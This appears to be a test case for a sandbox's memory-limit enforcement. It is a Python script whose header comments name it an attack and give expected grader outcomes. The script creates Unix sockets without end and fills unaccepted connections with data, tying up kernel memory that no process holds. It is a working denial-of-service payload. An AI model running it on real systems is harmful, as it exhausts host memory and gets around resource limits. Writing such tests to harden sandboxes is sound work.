# attack: fills connections that nobody accepts; those who sent close theirs, so that no process holds them
# expected: describe 0 of 3, first_axis 1 of 1
# says: memory limit
import os
import socket
import tempfile
import time

block = bytes(100_000)
servers = []
while True:
    name = os.path.join(tempfile.gettempdir(), str(len(servers)))
    try:
        servers.append(socket.socket(socket.AF_UNIX))
        servers[-1].bind(name)
        servers[-1].listen(4096)
        for _ in range(4096):
            with socket.socket(socket.AF_UNIX) as sender:
                sender.setblocking(False)
                sender.connect(name)
                try:
                    while True:
                        sender.send(block)
                except BlockingIOError:
                    pass
    except OSError:
        time.sleep(0.01)
